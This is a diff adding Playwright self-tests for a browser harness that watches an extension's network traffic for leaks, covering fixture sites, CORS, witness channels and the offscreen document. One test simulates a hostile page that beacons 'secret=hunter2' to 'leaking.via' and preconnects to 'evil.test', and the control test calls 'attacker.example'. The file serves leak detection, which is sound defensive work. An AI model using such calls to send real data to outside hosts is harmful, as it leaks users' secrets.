@@ -1,0 +1,196 @@
+/**
+ * Self-tests of the real-browser harness: fixture sites through the recording proxy, CORS on
+ * dynamic routes, every witness channel seeing a control request, the extension's service
+ * worker, extension pages, tab ids and the offscreen document over CDP.
+ *
+ * Tests run in parallel on both workers on purpose: the socket witnesses are shared by the
+ * workers, so a control test on one worker must not show up as a hit in the other.
+ */
+import { readFileSync } from 'node:fs';
+import path from 'node:path';
+import { defaultDistDir, distIsBuilt, expect, placeholderExtensionDir, test } from './harness';
+
+test.describe.configure({ mode: 'parallel' });
+
+// Harness mechanics are tested against the do-nothing placeholder extension, so that a change
+// in the real extension cannot make the harness look broken (or clean).
+test.use({ extensionPath: placeholderExtensionDir });
+
+test('fixture pages load over http and https through the proxy, with no stray traffic', async ({ openPage, witness, sites }) => {
+  const shop = await openPage('shop.test', '/index.html');
+  await expect(shop).toHaveTitle('Fixture Shop');
+  expect(shop.url()).toBe('http://shop.test/index.html');
+  await expect(shop.locator('.promo')).toHaveCount(3);
+  await expect(shop.locator('#cart')).toBeVisible();
+  await expect(shop.locator('input[type=password]')).toHaveCount(1);
+  await expect(shop.locator('html')).toHaveAttribute('data-products-loaded', 'true');
+
+  const news = await openPage('news.test', '/index.html', { https: true });
+  await expect(news).toHaveTitle('Fixture News');
+  expect(news.url()).toBe('https://news.test/index.html');
+  await expect(news.locator('article.article')).toHaveCount(3);
+  expect(await news.evaluate(() => window.isSecureContext)).toBe(true);
+
+  const log = witness.log();
+  expect(log.some((r) => r.kind === 'http' && r.host === 'shop.test' && r.path === '/index.html' && r.fixture)).toBe(true);
+  expect(log.some((r) => r.kind === 'connect' && r.host === 'news.test' && r.port === 443 && r.fixture)).toBe(true);
+  expect(sites.requests({ host: 'news.test', path: '/index.html' }).some((r) => r.https)).toBe(true);
+  expect(sites.requests({ host: 'shop.test', path: '/api/products.json' }).length).toBeGreaterThan(0);
+
+  // Chromium's own startup requests are excluded deliberately (and only those): nothing else.
+  for (const r of witness.ignored()) expect(['accounts.google.com', 'update.googleapis.com']).toContain(r.host);
+  await witness.expectNoHits();
+});
+
+test('cross-origin fetch from shop.test to api.test follows CORS', async ({ openPage, sites, witness }) => {
+  const origin = sites.origin('shop.test');
+  sites.route('api.test', '/cors/allowed', (req) => {
+    const cors = {
+      'access-control-allow-origin': origin,
+      'access-control-allow-methods': 'GET, PUT',
+      'access-control-allow-headers': 'x-remixlet-test',
+      vary: 'origin',
+    };
+    if (req.method === 'OPTIONS') return { status: 204, headers: cors };
+    return { json: { ok: true, method: req.method, origin: req.headers.origin ?? null }, headers: cors };
+  });
+  sites.route('api.test', '/cors/denied', () => ({ json: { secret: 'not for shop.test' } }));
+  // A route on a brand-new host makes it a fixture host for this test only.
+  sites.route('cdn.test', '/lib.js', () => ({ body: 'window.cdnLoaded = true;', headers: { 'content-type': 'text/javascript' } }));
+
+  const page = await openPage('shop.test', '/index.html');
+  const result = await page.evaluate(async () => {
+    const allowed = await fetch('http://api.test/cors/allowed').then((r) => r.json() as Promise<unknown>);
+    const preflighted = await fetch('http://api.test/cors/allowed', { method: 'PUT', headers: { 'x-remixlet-test': '1' } }).then(
+      (r) => r.json() as Promise<unknown>,
+    );
+    const denied = await fetch('http://api.test/cors/denied').then(
+      () => 'readable',
+      (e: unknown) => `blocked: ${String(e)}`,
+    );
+    const s = document.createElement('script');
+    s.src = 'http://cdn.test/lib.js';
+    await new Promise((resolve, reject) => {
+      s.onload = resolve;
+      s.onerror = reject;
+      document.head.append(s);
+    });
+    return { allowed, preflighted, denied, cdn: (window as unknown as { cdnLoaded?: boolean }).cdnLoaded };
+  });
+  expect(result.allowed).toEqual({ ok: true, method: 'GET', origin });
+  expect(result.preflighted).toEqual({ ok: true, method: 'PUT', origin });
+  expect(result.denied).toMatch(/^blocked: TypeError/);
+  expect(result.cdn).toBe(true);
+  // The denied request still reached the server (CORS hides the response, not the request).
+  expect(sites.requests({ host: 'api.test', path: '/cors/denied' })).toHaveLength(1);
+  expect(sites.requests({ host: 'api.test', path: '/cors/allowed' }).map((r) => r.method).sort()).toEqual(['GET', 'OPTIONS', 'PUT']);
+  await witness.expectNoHits();
+});
+
+test('witness.control is recorded on every channel: http, https CONNECT, ws, UDP STUN, TCP TURN, direct TCP', async ({
+  openPage,
+  witness,
+}) => {
+  const page = await openPage('shop.test', '/index.html');
+  const r = await witness.control(page);
+
+  expect(r.http[0]).toMatchObject({ channel: 'http', host: 'attacker.example', method: 'GET', initiator: 'http://shop.test/' });
+  expect(r.https.map((h) => h.channel).sort()).toEqual(expect.arrayContaining(['connect', 'https']));
+  expect(r.https.find((h) => h.channel === 'https')).toMatchObject({ host: 'leaking.via', port: 443, initiator: 'http://shop.test/' });
+  expect(r.ws.find((h) => h.channel === 'ws')).toMatchObject({ host: 'attacker.example', port: 80, method: 'GET' });
+  expect(r.stun[0]).toMatchObject({ channel: 'udp', host: '127.0.0.1', port: 3478, tag: witness.tag });
+  expect(r.stun[0]?.preview?.startsWith('0001')).toBe(true); // STUN Binding Request
+  expect(r.turn.length).toBeGreaterThan(0);
+  expect(r.tcp[0]).toMatchObject({ channel: 'tcp', port: 47474, tag: witness.tag });
+
+  expect(await witness.hitsFor('attacker.example')).not.toHaveLength(0);
+  await witness.clear();
+  await witness.expectNoHits({ settleMs: 300 });
+});
+
+test('a hostile page on a fixture host is caught on an unusual channel (preconnect, beacon, IP literal)', async ({ openPage, witness }) => {
+  const page = await openPage('other.test', '/index.html');
+  await page.evaluate(() => {
+    const l = document.createElement('link');
+    l.rel = 'preconnect';
+    l.href = 'https://evil.test';
+    document.head.append(l);
+    navigator.sendBeacon('http://leaking.via/beacon', 'secret=hunter2');
+    void fetch('http://127.0.0.1:8123/ip-literal', { mode: 'no-cors' }).catch(() => undefined);
+  });
+  const hits = await witness.waitForHits(
+    (h) =>
+      h.some((x) => x.host === 'evil.test' && x.channel === 'connect') &&
+      h.some((x) => x.host === 'leaking.via' && x.path === '/beacon' && x.method === 'POST') &&
+      h.some((x) => x.host === '127.0.0.1' && x.path === '/ip-literal'),
+  );
+  expect(hits.find((x) => x.path === '/beacon')?.preview).toBe('secret=hunter2');
+});
+
+test('the offscreen document is reachable over CDP, and tabIdOf finds a tab', async ({
+  serviceWorker,
+  evaluateInOffscreen,
+  cdp,
+  openPage,
+  tabIdOf,
+  witness,
+}) => {
+  await serviceWorker.evaluate(() =>
+    chrome.offscreen.createDocument({
+      url: 'offscreen.html',
+      reasons: ['DOM_PARSER' as chrome.offscreen.Reason],
+      justification: 'harness self-test',
+    }),
+  );
+  expect(await evaluateInOffscreen<string>('globalThis.placeholderOffscreen')).toBe('offscreen-ok');
+  expect(await evaluateInOffscreen<string>('location.pathname')).toBe('/offscreen.html');
+  expect(await evaluateInOffscreen<number>('new Promise((r) => setTimeout(() => r(42), 10))')).toBe(42);
+  await expect(evaluateInOffscreen('(() => { throw new Error("boom") })()')).rejects.toThrow(/boom/);
+  const target = await cdp.findOffscreenTarget();
+  expect(target.url).toMatch(/^chrome-extension:\/\/[a-p]{32}\/offscreen\.html$/);
+
+  const shop = await openPage('shop.test', '/index.html');
+  const news = await openPage('news.test', '/index.html');
+  const shopId = await tabIdOf(shop);
+  const newsId = await tabIdOf(news);
+  expect(shopId).not.toBe(newsId);
+  expect(await serviceWorker.evaluate(async (id) => (await chrome.tabs.get(id)).url, shopId)).toBe('http://shop.test/index.html');
+  await witness.expectNoHits({ settleMs: 0 });
+});
+
+test('spa.test redraws every 100 ms and navigates with pushState', async ({ openPage }) => {
+  const page = await openPage('spa.test', '/');
+  const first = Number(await page.locator('#feed').getAttribute('data-tick'));
+  await expect.poll(async () => Number(await page.locator('#feed').getAttribute('data-tick'))).toBeGreaterThan(first + 2);
+  await page.locator('a[data-route="/inbox"]').click();
+  await expect(page).toHaveURL('http://spa.test/inbox');
+  await expect(page.locator('#view-title')).toHaveText('Inbox');
+  await page.reload();
+  await expect(page.locator('#view-title')).toHaveText('Inbox');
+  await expect(page.locator('#feed li')).toHaveCount(5);
+});
+
+test.describe('the extension under test', () => {
+  // The built extension when dist/ exists (the real suite always uses it); the placeholder otherwise.
+  const useDist = distIsBuilt();
+  test.use({ extensionPath: useDist ? defaultDistDir : placeholderExtensionDir });
+
+  test('its service worker is found and an extension page opens', async ({ serviceWorker, extensionId, openExtensionPage, extensionPath }) => {
+    test.info().annotations.push({ type: 'extension', description: extensionPath });
+    expect(extensionId).toMatch(/^[a-p]{32}$/);
+    expect(serviceWorker.url()).toMatch(new RegExp(`^chrome-extension://${extensionId}/`));
+    expect(await serviceWorker.evaluate(() => chrome.runtime.getManifest().manifest_version)).toBe(3);
+
+    const manifest = JSON.parse(readFileSync(path.join(extensionPath, 'manifest.json'), 'utf8')) as {
+      side_panel?: { default_path?: string };
+      action?: { default_popup?: string };
+      options_page?: string;
+      options_ui?: { page?: string };
+    };
+    const pagePath =
+      manifest.side_panel?.default_path ?? manifest.action?.default_popup ?? manifest.options_ui?.page ?? manifest.options_page ?? 'page.html';
+    const page = await openExtensionPage(pagePath);
+    expect(page.url()).toBe(`chrome-extension://${extensionId}/${pagePath}`);
+    expect(await page.evaluate(() => typeof chrome.runtime.id)).toBe('string');
+  });
+});
